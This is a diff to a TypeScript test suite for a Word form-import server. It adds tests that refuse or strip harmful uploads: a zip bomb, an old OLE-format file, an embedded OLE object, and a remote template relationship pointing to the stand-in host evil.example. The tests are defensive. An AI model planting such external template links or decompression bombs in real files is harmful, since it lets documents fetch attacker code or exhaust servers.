@@ -17,6 +17,7 @@ import {
   run,
   wordForm,
 } from "#server/testing/paper/paper-file.ts";
+import { readZip } from "#server/testing/read-zip.ts";
 import { type StartedApp, startApp } from "#server/testing/start-app.ts";
 
 let app: StartedApp;
@@ -345,6 +346,13 @@ test("rows of a list are found by what names them, and new ones are added", asyn
   ]);
 });
 
+/** How a file before Office 2007 begins, and one with a password. */
+const oleHeader = Buffer.from("d0cf11e0a1b11ae1", "hex");
+const externalRelation = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
+
+const withPart = (name: string, content: Buffer): Buffer =>
+  wordForm(control(htc, run("5")), { properties: properties(), more: [{ name, content }] });
+
 describe("what is not as it was sent out", () => {
   const refusals: [string, () => Buffer | Promise<Buffer>, string, string?][] = [
     ["another country's form", () => fill({ [htc]: "1" }, { country: "FRA" }), "other-country"],
@@ -352,6 +360,12 @@ describe("what is not as it was sent out", () => {
     ["a document without cells", () => fill({}), "no-form"],
     ["a damaged file", () => fill({ [htc]: "1" }).subarray(0, 300), "zip-broken"],
     ["a text with another name", () => Buffer.from("hello"), "not-office"],
+    [
+      "a zip bomb",
+      () => withPart("word/media/a.bin", Buffer.alloc(31 * 2 ** 20, 0x20)),
+      "zip-ratio",
+    ],
+    ["a file of an old program", () => Buffer.concat([oleHeader, Buffer.alloc(600)]), "old-format"],
     ["a workbook with a document's name", () => filledSheet({ [htc]: 1 }), "wrong-office-type"],
   ];
   test.each(refusals)("%s is refused, and the log says why", async (_, make, code) => {
@@ -361,6 +375,48 @@ describe("what is not as it was sent out", () => {
     const [entry] = (await get("ImportLog")).body;
     expect(entry).toMatchObject({ outcome: "refused", hasFile: false });
     expect((await get(`Document/${entry.id}/File`)).body.code).toBe("file-gone");
+  });
+
+  const harmful: [string, () => Buffer, string, string][] = [
+    [
+      "an embedded object",
+      () => withPart("word/embeddings/oleObject1.bin", oleHeader),
+      "embedded",
+      "embeddings",
+    ],
+    [
+      "a link to another place",
+      () => withPart("word/_rels/document.xml.rels", Buffer.from(externalRelation)),
+      "external",
+      "evil.example",
+    ],
+  ];
+  test.each(harmful)(
+    "%s is named and not handed back, and the answers are read",
+    async (...given) => {
+      const [, make, code, trace] = given;
+      const one = await previewOf(make());
+      expect(one.messages.map((message) => message.code)).toContain(code);
+      expect(changesOf(one)[htc]).toEqual(["new", "paper"]);
+      const { rawPayload } = await app.fastify.inject({
+        url: `/api/Survey/Document/${one.id}/File?${place}`,
+        headers: { authorization: `Bearer ${token()}` },
+      });
+      const parts = await readZip(rawPayload);
+      expect(JSON.stringify(parts)).not.toContain(trace);
+      expect(await sources()).toEqual([]);
+    },
+  );
+
+  test("a refusal is said in the reader's language, each in other words", async () => {
+    const make = () => fill({ [htc]: "1" }, { country: "FRA" });
+    const said = new Set<string>();
+    for (const culture of ["en", "fr", "es"]) {
+      const { body } = await upload(await make(), { culture });
+      said.add(body.errors[0].message);
+    }
+    expect(said.size).toBe(3);
+    expect(await sources()).toEqual([]);
   });
 
   const outcomes: [string, Record<string, string>, Partial<FormProperties>, string][] = [
